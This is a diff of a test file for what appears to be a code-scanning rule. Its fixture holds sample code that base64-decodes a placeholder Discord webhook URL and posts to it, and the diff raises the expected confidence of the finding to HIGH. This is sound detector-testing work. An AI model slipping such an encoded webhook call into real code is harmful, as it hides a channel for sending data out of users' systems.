@@ -24,7 +24,7 @@ def test_encoded(scan):
 hook = base64.b64decode("aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTAwMDAwMDAwMDAwMDAwMDAwL0FBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQQ==").decode()
 requests.post(hook)
 """
-    assert scan(RULE, text) == [(2, "HIGH", "MEDIUM", "import")]
+    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import")]
 
 
 def test_in_a_test(scan):
